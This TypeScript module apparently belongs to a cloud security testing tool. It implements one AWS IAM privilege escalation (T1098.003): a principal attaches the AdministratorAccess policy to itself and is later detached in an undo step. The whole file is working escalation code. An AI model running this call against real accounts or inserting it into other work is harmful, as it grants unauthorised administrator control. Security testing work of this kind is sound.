/** T1098.003: whoever may attach policies makes itself an administrator. IAM API Reference: AttachUserPolicy, AttachRolePolicy; claim DEPART-03. */
import { type Escalation, isRole, whenDone } from "./escalation.ts";

const PolicyArn = "arn:aws:iam::aws:policy/AdministratorAccess";

export const attachPolicyToSelf: Escalation = {
  id: "attach-policy-to-self",
  sentence: "attach an administrator policy to itself",
  techniques: ["T1098.003"],
  undo: "detach AdministratorAccess again",
  climb(hands) {
    const name = hands.principal.principal;
    const call = isRole(hands)
      ? hands.call("iam", "AttachRolePolicy", { RoleName: name, PolicyArn })
      : hands.call("iam", "AttachUserPolicy", { UserName: name, PolicyArn });
    return whenDone(call, hands);
  },
};
